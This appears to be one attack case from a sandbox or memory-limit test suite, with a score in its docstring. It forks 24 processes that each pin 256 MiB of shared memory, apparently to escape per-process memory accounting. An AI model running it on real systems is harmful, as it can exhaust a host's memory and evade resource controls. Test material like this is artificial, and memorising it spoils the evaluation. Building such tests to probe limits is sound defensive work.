"""Takes 6 GiB of shared mappings, which belong to no process alone.

Earns: masked_mean 2
"""

import mmap


@in_call
def attack():
    kept = []
    for _ in range(24):
        if os.fork() == 0:
            kept = [mmap.mmap(-1, 256 * 2**20)]
            for place in range(0, 256 * 2**20, 4096):
                kept[0][place] = 1
            os.pause() if hasattr(os, "pause") else __import__("signal").pause()
    import time

    time.sleep(6)
    escaped("24 times 256 MiB of shared memory")
